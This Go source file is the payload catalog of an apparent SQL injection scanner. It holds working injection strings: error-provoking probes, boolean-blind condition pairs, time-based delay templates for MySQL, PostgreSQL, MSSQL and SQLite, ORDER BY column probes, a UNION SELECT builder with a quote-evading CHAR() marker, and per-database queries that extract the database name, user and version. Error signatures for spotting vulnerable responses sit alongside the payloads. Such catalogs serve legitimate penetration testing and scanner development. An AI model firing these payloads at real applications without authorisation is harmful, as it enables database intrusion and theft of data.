// Package payloads holds the static SQL injection payload catalog: the
// templates each detection technique renders, the boundary contexts they
// are injected into, and the signature sets that decide success.
package payloads

import (
	"strconv"
	"strings"
	"sync"
)

// Boundary is a prefix/suffix pair that closes the surrounding SQL
// context before the payload and neutralizes the rest of the query after
type Boundary struct {
	Prefix string
	Suffix string
}

// Template is a payload skeleton with placeholder slots. Render fills
// {{.Condition}}, {{.Query}}, {{.Delay}}, {{.Marker}} and {{.N}}.
type Template struct {
	DBMS string
	Raw  string
}

// Params carries the values substituted into a Template
type Params struct {
	Condition string
	Query     string
	Delay     int
	Marker    string
	N         int
}

// Render substitutes the parameters into the template
func (t Template) Render(p Params) string {
	r := strings.NewReplacer(
		"{{.Condition}}", p.Condition,
		"{{.Query}}", p.Query,
		"{{.Delay}}", strconv.Itoa(p.Delay),
		"{{.Marker}}", p.Marker,
		"{{.N}}", strconv.Itoa(p.N),
	)
	return r.Replace(t.Raw)
}

// ConditionPair is a matched TRUE/FALSE condition used by the
// boolean-blind differential test
type ConditionPair struct {
	True  string
	False string
}

// Catalog is the immutable payload catalog. Accessors return copies so
// a caller cannot mutate the shared instance.
type Catalog struct {
	errorPayloads   []string
	errorSignatures []string
	dbmsSignatures  map[string][]string

	boundaries     []Boundary
	booleanPairs   []ConditionPair
	booleanTpls    []Template
	timeTpls       []Template
	orderByTpls    []Template
	unionPrefixes  []Boundary
	unionMarker    string
	extractQueries map[string]map[string]string
}

var (
	defaultOnce    sync.Once
	defaultCatalog *Catalog
)

// Default returns the shared built-in catalog, constructed once
func Default() *Catalog {
	defaultOnce.Do(func() {
		defaultCatalog = build()
	})
	return defaultCatalog
}

func build() *Catalog {
	return &Catalog{
		errorPayloads: []string{
			`'`,
			`"`,
			`')`,
			`'--`,
			`' OR '1'='1`,
			`' AND 1=CONVERT(int,(SELECT @@version))--`,
			`' AND extractvalue(1,concat(0x7e,version()))--`,
			`' AND 1=CAST((SELECT version()) AS int)--`,
			`'||'`,
		},
		errorSignatures: []string{
			"sql syntax", "mysql_fetch", "ora-", "postgresql", "sqlite",
			"syntax error", "unclosed quotation", "quoted string not properly terminated",
			"microsoft ole db", "microsoft jet database", "odbc drivers error",
			"invalid column name", "table doesn't exist", "unknown column",
			"you have an error in your sql syntax", "warning: mysql_",
			"function.mysql", "mysql result", "mysqlclient version",
			"postgresql query failed", "supplied argument is not a valid postgresql",
			"ora-00933", "ora-00921", "ora-00936", "ora-01756",
			"microsoft access driver", "pg_query", "psql:",
			"sqlstate", "xpath syntax error",
		},
		dbmsSignatures: map[string][]string{
			"MySQL":      {"mysql", "mariadb", "you have an error in your sql syntax"},
			"PostgreSQL": {"postgresql", "postgres", "pgsql", "pg_query"},
			"Oracle":     {"oracle", "ora-"},
			"SQLite":     {"sqlite"},
			"MSSQL":      {"microsoft ole db", "odbc", "unclosed quotation", "sqlserver"},
		},
		boundaries: []Boundary{
			{Prefix: `' AND `, Suffix: `-- -`},
			{Prefix: `" AND `, Suffix: `-- -`},
			{Prefix: `) AND (`, Suffix: `)=(1`},
			{Prefix: ` AND `, Suffix: ``},
			{Prefix: `' AND `, Suffix: ` AND '1'='1`},
		},
		booleanPairs: []ConditionPair{
			{True: `1=1`, False: `1=2`},
			{True: `'a'='a'`, False: `'a'='b'`},
			{True: `2>1`, False: `2<1`},
		},
		booleanTpls: []Template{
			{DBMS: "generic", Raw: `{{.Condition}}`},
		},
		timeTpls: []Template{
			{DBMS: "MySQL", Raw: `' AND IF({{.Condition}},SLEEP({{.Delay}}),0)-- -`},
			{DBMS: "PostgreSQL", Raw: `' AND (SELECT CASE WHEN ({{.Condition}}) THEN pg_sleep({{.Delay}}) ELSE pg_sleep(0) END)IS NOT NULL-- -`},
			{DBMS: "MSSQL", Raw: `'; IF ({{.Condition}}) WAITFOR DELAY '0:0:{{.Delay}}'-- -`},
			{DBMS: "SQLite", Raw: `' AND (SELECT CASE WHEN ({{.Condition}}) THEN (SELECT COUNT(*) FROM sqlite_master a, sqlite_master b, sqlite_master c) ELSE 1 END)-- -`},
		},
		orderByTpls: []Template{
			{DBMS: "generic", Raw: `' ORDER BY {{.N}}-- -`},
			{DBMS: "generic", Raw: ` ORDER BY {{.N}}-- -`},
		},
		unionPrefixes: []Boundary{
			{Prefix: `' UNION SELECT `, Suffix: `-- -`},
			{Prefix: ` UNION SELECT `, Suffix: `-- -`},
		},
		unionMarker: "gRaYtErA",
		extractQueries: map[string]map[string]string{
			"MySQL": {
				"database": "SELECT DATABASE()",
				"user":     "SELECT CURRENT_USER()",
				"version":  "SELECT VERSION()",
			},
			"PostgreSQL": {
				"database": "SELECT current_database()",
				"user":     "SELECT current_user",
				"version":  "SELECT version()",
			},
			"MSSQL": {
				"database": "SELECT DB_NAME()",
				"user":     "SELECT SYSTEM_USER",
				"version":  "SELECT @@VERSION",
			},
			"SQLite": {
				"database": "SELECT 'main'",
				"user":     "SELECT 'sqlite'",
				"version":  "SELECT sqlite_version()",
			},
		},
	}
}

// ErrorPayloads returns the error-provoking probe payloads
func (c *Catalog) ErrorPayloads() []string {
	out := make([]string, len(c.errorPayloads))
	copy(out, c.errorPayloads)
	return out
}

// MatchErrorSignature reports whether the body contains a known SQL
// error signature, and returns the first matching signature
func (c *Catalog) MatchErrorSignature(body string) (string, bool) {
	lower := strings.ToLower(body)
	for _, sig := range c.errorSignatures {
		if strings.Contains(lower, sig) {
			return sig, true
		}
	}
	return "", false
}

// IdentifyDBMS attempts to identify the backend database from an error
// body. Returns "Unknown" when nothing matches.
func (c *Catalog) IdentifyDBMS(body string) string {
	lower := strings.ToLower(body)
	// Deterministic order so identification is stable across runs
	for _, dbms := range []string{"MySQL", "PostgreSQL", "Oracle", "SQLite", "MSSQL"} {
		for _, indicator := range c.dbmsSignatures[dbms] {
			if strings.Contains(lower, indicator) {
				return dbms
			}
		}
	}
	return "Unknown"
}

// Boundaries returns the injection context prefix/suffix pairs
func (c *Catalog) Boundaries() []Boundary {
	out := make([]Boundary, len(c.boundaries))
	copy(out, c.boundaries)
	return out
}

// BooleanPairs returns the TRUE/FALSE condition pairs for differential tests
func (c *Catalog) BooleanPairs() []ConditionPair {
	out := make([]ConditionPair, len(c.booleanPairs))
	copy(out, c.booleanPairs)
	return out
}

// TimeTemplates returns the conditional-delay templates per DBMS
func (c *Catalog) TimeTemplates() []Template {
	out := make([]Template, len(c.timeTpls))
	copy(out, c.timeTpls)
	return out
}

// OrderByTemplates returns the column-count probing templates
func (c *Catalog) OrderByTemplates() []Template {
	out := make([]Template, len(c.orderByTpls))
	copy(out, c.orderByTpls)
	return out
}

// UnionMarker returns the sentinel string reflected by a successful
// UNION injection
func (c *Catalog) UnionMarker() string {
	return c.unionMarker
}

// MarkerExpression returns the sentinel encoded as a CHAR() chain so it
// survives quote filtering on the target
func (c *Catalog) MarkerExpression() string {
	var parts []string
	for _, b := range []byte(c.unionMarker) {
		parts = append(parts, strconv.Itoa(int(b)))
	}
	return "CONCAT(CHAR(" + strings.Join(parts, "),CHAR(") + "))"
}

// UnionPayload builds a UNION SELECT probe with columnCount columns and
// the sentinel expression in column markerPos (zero-based)
func (c *Catalog) UnionPayload(boundary Boundary, columnCount, markerPos int) string {
	cols := make([]string, columnCount)
	for i := range cols {
		cols[i] = "NULL"
	}
	if markerPos >= 0 && markerPos < columnCount {
		cols[markerPos] = c.MarkerExpression()
	}
	return boundary.Prefix + strings.Join(cols, ",") + boundary.Suffix
}

// UnionBoundaries returns the UNION SELECT context pairs
func (c *Catalog) UnionBoundaries() []Boundary {
	out := make([]Boundary, len(c.unionPrefixes))
	copy(out, c.unionPrefixes)
	return out
}

// ExtractionQuery returns the scalar query that reads the given field
// (database, user, version) on the given DBMS. Unknown DBMS falls back
// to MySQL syntax, the most widely accepted of the dialects.
func (c *Catalog) ExtractionQuery(dbms, field string) (string, bool) {
	queries, ok := c.extractQueries[dbms]
	if !ok {
		queries = c.extractQueries["MySQL"]
	}
	q, ok := queries[field]
	return q, ok
}

// Fields returns the extractable field names in deterministic order
func (c *Catalog) Fields() []string {
	return []string{"database", "user", "version"}
}
